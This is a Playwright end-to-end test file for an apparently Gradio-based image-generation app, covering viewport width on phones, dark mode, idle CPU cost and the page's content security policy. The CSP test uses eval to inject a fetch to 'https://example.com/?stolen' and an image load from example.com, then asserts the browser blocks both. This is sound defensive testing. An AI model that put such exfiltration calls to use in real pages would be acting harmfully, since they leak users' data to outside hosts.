"""Phones, dark pages, keyboards: what a screenshot shows and a test can hold."""

import pytest
from playwright.sync_api import expect

from tests.e2e.pages import generate, open_tradeoff, too_wide


@pytest.mark.parametrize("widths", [(360,), (1280, 768)], ids=["phone", "others"])
def test_nothing_is_wider_than_the_window(open_page, widths: tuple[int, ...]):
    page = open_page(width=widths[0], height=780, has_touch=widths[0] < 500)
    assert too_wide(page) <= 0
    generate(page, "a red ring and a blue ring", seeds=8)
    for width in widths:
        page.set_viewport_size({"width": width, "height": 780})
        assert too_wide(page) <= 0
        boxes = page.locator(".t2-picture").evaluate_all(
            "all => all.map(p => p.getBoundingClientRect()).map(b => [b.width, b.height])"
        )
        assert all(abs(across - down) < 1 for across, down in boxes), "pictures are square"
    open_tradeoff(page)
    for width in widths:
        page.set_viewport_size({"width": width, "height": 780})
        assert too_wide(page) <= 0


WORK = "TaskDuration"  # seconds
INK = "getComputedStyle(document.querySelector('#t2-explore-chart .xtitle')).fill"


def test_dark_and_light(open_page):
    page = open_page(color_scheme="dark")
    expect(page.locator("body.dark")).to_have_count(1)
    dark = page.evaluate(INK)
    page.get_by_role("button", name="Light or dark").click()
    expect(page.locator("body.dark")).to_have_count(0)
    page.wait_for_function(f"dark => {INK} !== dark", arg=dark)
    page.reload()
    page.locator("#t2-explore-chart .xtitle").wait_for()
    expect(page.locator("body.dark")).to_have_count(0)
    page.wait_for_function(f"dark => {INK} !== dark", arg=dark)


def test_nothing_may_be_fetched_from_elsewhere_nor_sent_there(browser, app: str):
    """The browser itself holds it, also for scripts that got into the page; what it blocks, it complains of."""
    context = browser.new_context()
    page = context.new_page()
    page.goto(app)
    page.locator("#t2-prompt textarea").wait_for()
    for script in (
        "fetch('https://example.com/?stolen')",
        "new Promise((ok, no) => Object.assign(new Image(), "
        "{ onload: ok, onerror: no, src: 'https://example.com/a.png' }))",
    ):
        broken = page.evaluate(
            """script => new Promise((done) => {
              document.addEventListener('securitypolicyviolation', (event) => done(event.effectiveDirective));
              Promise.resolve(eval(script)).catch(() => setTimeout(() => done('let through'), 500));
            })""",
            script,
        )
        assert broken in ("connect-src", "img-src")
    context.close()


def test_what_programs_call_has_no_place_on_the_page(open_page):
    """Gradio walks through all parts for each event: those of the API would cost a tenth of that, and a thousand nodes."""
    page = open_page()
    here, there = page.evaluate(
        """async () => [gradio_config, await (await fetch('config')).json()].map(
          (config) => Object.groupBy(config.components, ({ type }) => type)).map(
          (kinds) => Object.fromEntries(Object.entries(kinds).map(([kind, all]) => [kind, all.length])))"""
    )
    assert there.pop("api") > 20 and here == there


def test_a_page_at_rest_costs_nothing(open_page):
    """No clock, no poll, no drawing: the browser's work in two seconds is a few milliseconds."""
    page = open_page()
    session = page.context.new_cdp_session(page)
    session.send("Performance.enable")

    def worked() -> float:
        return next(one["value"] for one in session.send("Performance.getMetrics")["metrics"] if one["name"] == WORK)

    def work_in(milliseconds: int) -> float:
        before = worked()
        page.wait_for_timeout(milliseconds)
        return worked() - before

    # what a visit begins, ends within a minute even on a busy machine
    assert any(work_in(2000) < 0.02 for _ in range(30))
